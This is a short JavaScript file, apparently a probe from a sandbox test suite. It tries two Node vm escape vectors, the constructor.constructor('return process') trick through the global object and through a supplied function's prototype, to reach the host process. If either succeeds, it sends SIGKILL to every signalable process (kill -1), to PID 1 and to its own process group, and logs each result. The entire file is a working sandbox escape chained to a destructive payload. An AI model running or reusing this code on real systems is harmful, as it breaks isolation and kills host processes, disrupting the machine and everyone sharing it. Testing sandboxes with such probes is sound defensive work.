// With the host process (if reachable): kill(-1), SIGKILL to PID 1 and to its own process group.
let P = null;
// The vectors of vm-escape-process.js: the global object's inherited constructor, a provided function's prototype.
for (const get of [() => this.constructor.constructor('return process')(), () => Object.getPrototypeOf(input.prototype).constructor.constructor('return process')()]) {
  try { P = get(); } catch (e) { P = null; }
  if (P && typeof P.pid === 'number') break;
  P = null;
}
if (!P) {
  console.log('blocked: no process');
} else {
  for (const [pid, sig] of [[-1, 'SIGKILL'], [1, 'SIGKILL'], [1, 'SIGTERM'], [0, 'SIGKILL']]) {
    try { P.kill(pid, sig); console.log('sent', pid, sig); } catch (e) { console.log('refused', pid, sig, e.code); }
  }
  console.log('survived');
}
